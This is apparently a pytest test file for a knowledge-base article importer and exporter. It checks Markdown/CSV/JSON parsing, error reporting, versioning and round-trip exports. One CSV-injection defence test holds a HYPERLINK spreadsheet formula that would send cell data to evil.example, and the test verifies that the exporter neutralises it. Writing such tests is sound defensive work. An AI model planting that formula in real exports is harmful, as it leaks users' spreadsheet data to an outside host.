import csv
import io
import json

import pytest

from kb.articles import ArticleCreate, create_article, get_article
from kb.importer import ArticleImportError, export_csv, export_json, import_files, parse_file, read_sources

MARKDOWN = """---
id: gift-cards-en
lang: en
title: How to redeem a gift card
questions:
  - where do I enter my gift card code
tags: [payments]
---
Enter the code at checkout under Payment.
"""

CSV = """id,lang,title,body,questions,tags
returns-en,en,Returning an item,Start a return from your orders page.,how do I send it back|can I return this,returns
returns-ja,ja,返品の方法,注文履歴から返品を始めてください。,返品したい,returns
"""

JSON = json.dumps(
    [
        {"id": "refund-en", "lang": "en", "title": "Refund status", "body": "Refunds take 5 days."},
        {"id": "refund-ko", "lang": "ko", "title": "환불 상태", "body": "환불은 5일 걸립니다.", "group": "refund-en"},
    ],
    ensure_ascii=False,
    indent=2,
)


def test_markdown_csv_and_json_files_are_imported(sessions):
    with sessions() as session:
        report, changed = import_files(session, [("a.md", MARKDOWN), ("b.csv", CSV), ("c.json", JSON)], "mina")
        session.commit()
        assert sorted(report.created) == ["gift-cards-en", "refund-en", "refund-ko", "returns-en", "returns-ja"]
        assert not report.problems and len(changed) == 5
        returns = get_article(session, "returns-en")
        assert returns.questions == ["how do I send it back", "can I return this"]
        assert returns.tags == ["returns"] and returns.status == "published"
        assert get_article(session, "refund-ko").group == "refund-en"


def test_a_dry_run_reports_changes_and_writes_nothing(sessions):
    with sessions() as session:
        import_files(session, [("a.md", MARKDOWN)], "mina")
        session.commit()
        edited = MARKDOWN.replace("under Payment", "under Payment, then press Apply")
        report, changed = import_files(session, [("a.md", edited), ("b.csv", CSV)], "mina", dry_run=True)
        assert report.updated == ["gift-cards-en"] and report.created == ["returns-en", "returns-ja"]
        assert changed == []
        session.rollback()
        assert get_article(session, "gift-cards-en").version == 1
        assert session.get(type(get_article(session, "gift-cards-en")), "returns-en") is None


def test_reimporting_the_same_file_changes_nothing_and_an_edit_is_a_new_version(sessions):
    with sessions() as session:
        import_files(session, [("a.md", MARKDOWN)], "mina")
        session.commit()
        report, _ = import_files(session, [("a.md", MARKDOWN)], "mina")
        assert report.unchanged == ["gift-cards-en"]
        report, _ = import_files(session, [("a.md", MARKDOWN.replace("Payment", "Pay"))], "joon")
        session.commit()
        article = get_article(session, "gift-cards-en")
        assert report.updated == ["gift-cards-en"] and article.version == 2
        assert article.revisions[-1].author == "joon" and article.revisions[-1].change == "edited body"


@pytest.mark.parametrize(
    ("name", "text", "expected"),
    [
        ("bad.csv", CSV + "broken-en,en,,A body without a title,,\n", r"bad\.csv:4: field 'title'"),
        ("bad.csv", CSV.replace("returns-ja,ja", "returns-ja,fr"), r"bad\.csv:3: field 'lang'"),
        ("bad.csv", "id,lang,title,colour\n", r"bad\.csv:1: unknown column\(s\) colour"),
        ("bad.json", JSON.replace('"ko"', '"xx"'), r"bad\.json:8: field 'lang'"),
        ("bad.json", JSON[:-3], r"bad\.json:\d+: not valid JSON"),
        ("bad.md", MARKDOWN.replace("lang: en", "lang: [en"), r"bad\.md:\d+: the front matter is not valid YAML"),
        ("bad.json", json.dumps([{"id": "x", "lang": "en", "title": "T", "body": "b" * 50_001}]), "at most 50000"),
        ("dup.csv", CSV.replace("returns-ja", "returns-en"), r"dup\.csv:3: id 'returns-en' already appears on line 2"),
        ("notes.txt", "hello", "unsupported file type"),
    ],
)
def test_a_malformed_file_is_reported_with_line_and_reason_and_nothing_from_it_is_stored(
    sessions, name, text, expected
):
    with pytest.raises(ArticleImportError, match=expected):
        parse_file(name, text)
    with sessions() as session:
        report, changed = import_files(session, [(name, text), ("good.md", MARKDOWN)], "mina")
        session.commit()
        assert report.created == ["gift-cards-en"] and len(report.problems) == 1
        assert [a.id for a in changed] == ["gift-cards-en"]
        assert session.get(type(changed[0]), "returns-en") is None


def test_the_same_id_in_two_files_refuses_the_second(sessions):
    with sessions() as session:
        report, _ = import_files(session, [("a.md", MARKDOWN), ("b.md", MARKDOWN)], "mina")
        assert report.created == ["gift-cards-en"]
        assert report.problems and "also in a.md" in report.problems[0]


@pytest.mark.parametrize(("exporter", "name"), [(export_json, "out.json"), (export_csv, "out.csv")])
def test_an_export_imports_back_unchanged(sessions, exporter, name):
    with sessions() as session:
        import_files(session, [("b.csv", CSV), ("c.json", JSON)], "mina")
        draft = ArticleCreate(
            id="draft-en",
            lang="en",
            title="Draft",
            body="Not yet.",
            questions=["Visa | Mastercard accepted?", r"is C:\temp\ safe"],
            tags=["a|b"],
        )
        create_article(session, draft, "mina")
        session.commit()
        articles = [get_article(session, i) for i in ("returns-en", "returns-ja", "refund-ko", "draft-en")]
        text = exporter(articles)
        report, _ = import_files(session, [(name, text)], "mina")
        assert report.unchanged == ["returns-en", "returns-ja", "refund-ko", "draft-en"]
        assert get_article(session, "draft-en").questions == draft.questions


def test_a_csv_export_opened_in_a_spreadsheet_runs_no_formula_and_imports_back_unchanged(sessions):
    """CSV injection: a cell starting with =, +, -, @, a tab or a carriage return is a formula to a spreadsheet
    (tabs and carriage returns: `kb.importer.neutralise_cell`'s examples; an article's fields are stripped of them)."""
    tricky = ArticleCreate(
        id="formula-en",
        lang="en",
        title='=HYPERLINK("https://evil.example/?"&A1,"Refund")',
        body="- step one\n- step two",
        questions=["+1 how do I pay", "@everyone refunds?", "'=already quoted"],
        tags=["-discount"],
        topic="@billing",
        product="+plus",
    )
    with sessions() as session:
        create_article(session, tricky, "mina")
        session.commit()
        text = export_csv([get_article(session, "formula-en")])
        row = next(csv.DictReader(io.StringIO(text)))
        for name in ("title", "body", "questions", "tags", "topic", "product"):
            assert row[name].startswith("'"), (name, row[name])
            assert not row[name].startswith(("=", "+", "-", "@", "\t", "\r"))
        assert row["questions"].startswith("'+1 how do I pay|")
        assert row["id"] == "formula-en" and row["lang"] == "en"  # nothing to neutralise: as it was

        report, _ = import_files(session, [("export.csv", text)], "mina")
        assert report.unchanged == ["formula-en"]
        article = get_article(session, "formula-en")
        assert (article.title, article.body, article.questions) == (tricky.title, tricky.body, tricky.questions)


def test_a_hand_written_csv_escapes_a_bar_inside_a_question():
    text = "id,lang,title,body,questions\nc-en,en,Cards,We take cards.,Visa \\| Mastercard?|do you take Amex\n"
    assert parse_file("cards.csv", text)[0].article.questions == ["Visa | Mastercard?", "do you take Amex"]


@pytest.mark.parametrize(
    "text",
    [
        '{"\\u0061rticles": [ARTICLE]}',  # the key written with an escape
        '{"note": "articles", "drafts": [{"id": "decoy"}], "articles": [ARTICLE]}',  # the word in a string first
        '{"x": "articles", "y": "[oops", "articles": [ARTICLE]}',
        '{"articles": [{"id": "decoy"}], "articles": [ARTICLE]}',  # a repeated key: the last one counts, as in JSON
    ],
)
def test_the_articles_of_a_json_object_are_found_however_it_is_written(text):
    article = '{"id": "right-en", "lang": "en", "title": "Right", "body": "The right one."}'
    (imported,) = parse_file("a.json", text.replace("ARTICLE", article))
    assert imported.article.id == "right-en"


def test_json_nested_too_deeply_is_refused_plainly():
    with pytest.raises(ArticleImportError, match=r"deep\.json:1: the JSON is nested too deeply"):
        parse_file("deep.json", "[" * 100_000 + "]" * 100_000)


def test_read_sources_takes_a_folder_of_mixed_files(tmp_path):
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "a.md").write_text(MARKDOWN, encoding="utf-8")
    (tmp_path / "b.csv").write_text(CSV, encoding="utf-8")
    (tmp_path / "notes.txt").write_text("ignored", encoding="utf-8")
    assert [name.rsplit("/", 1)[-1] for name, _ in read_sources(tmp_path)] == ["b.csv", "a.md"]
    with pytest.raises(ArticleImportError, match="no such file"):
        read_sources(tmp_path / "missing")
